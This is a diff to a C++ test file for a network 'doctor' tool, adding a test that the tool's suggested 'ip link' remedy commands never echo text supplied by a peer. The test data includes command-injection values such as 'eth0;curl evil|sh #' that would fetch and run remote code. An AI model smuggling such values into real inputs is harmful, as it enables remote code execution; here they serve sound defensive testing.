@@ -189,12 +189,17 @@ TEST_F(Tools, DoctorRefusesClientsThatAreNoDoctors) {
 TEST_F(SlowTools, DoctorDoesNotWaitForASilentClient) {
   const DoctorHost host;
   const Serving server(host);
-  sockaddr_in address{};
-  const int silent = tcp_socket(address, server.port());
-  ASSERT_EQ(::connect(silent, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
-  const Outcome o = compare(host, server.address());
-  EXPECT_EQ(o.code, 0) << o.out;
-  ::close(silent);
+  // The second one sends its facts; its engine does not connect.
+  for (const std::string& bytes : {std::string(), frame("a=b\n")}) {
+    sockaddr_in address{};
+    const int silent = tcp_socket(address, server.port());
+    ASSERT_EQ(::connect(silent, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
+    ASSERT_EQ(::send(silent, bytes.data(), bytes.size(), MSG_NOSIGNAL),
+              static_cast<ssize_t>(bytes.size()));
+    const Outcome o = compare(host, server.address());
+    EXPECT_EQ(o.code, 0) << o.out;
+    ::close(silent);
+  }
 }
 
 /// What the doctor says of a server that answers with these bytes.
@@ -232,6 +237,33 @@ TEST_F(Tools, DoctorRefusesServersThatAreNoDoctors) {
   }
   const Outcome newer = compare_with(frame("spinwire=9.9.9\n", 2));
   EXPECT_NE(newer.out.find("version 2 of the protocol, ours is 1"), std::string::npos) << newer.out;
+}
+
+TEST_F(Tools, DoctorPrintsNoTextOfAPeerInACommand) {
+  struct Case {
+    const char *mtu, *interface, *remedy;
+  };
+  for (const Case& test :
+       {Case{"1500", "eth7", "there: ip link set dev eth7 mtu 9000"},
+        Case{"1500", "eth0;curl evil|sh #", "there: ip link set dev INTERFACE mtu 9000"},
+        Case{"1500", "-force", "there: ip link set dev INTERFACE mtu 9000"},
+        Case{"1500", "a-name-that-is-too-long", "there: ip link set dev INTERFACE mtu 9000"},
+        Case{"9600;curl evil|sh #", "eth7", ""}, Case{"99999", "eth7", ""}, Case{"-1", "eth7", ""},
+        Case{"9600", "eth7;curl evil|sh #", "here: ip link set dev eth0 mtu 9600"}}) {
+    const Outcome o =
+        compare_with(frame(std::string("port.netdev_mtu=") + test.mtu + "\nport.netdev=" +
+                           test.interface + "\nengine.port=1;curl evil|sh\ncm.port=x\n"));
+    const std::size_t mtu = o.out.find(finding("mtu", "warning"));
+    ASSERT_NE(mtu, std::string::npos) << o.out;
+    EXPECT_NE(o.out.find(std::string("\"remedy\": \"") + test.remedy + '"', mtu),
+              std::string::npos)
+        << test.remedy << o.out;
+    EXPECT_TRUE(has(o, "engine", "error")) << "no port" << o.out;
+    for (std::size_t at = 0; (at = o.out.find("\"remedy\": \"", at)) != std::string::npos; ++at) {
+      const std::string remedy = o.out.substr(at, o.out.find('}', at) - at);
+      EXPECT_EQ(remedy.find("evil"), std::string::npos) << remedy;
+    }
+  }
 }
 
 TEST_F(Tools, DoctorReportsVersionsAndEnginesThatDoNotOpen) {
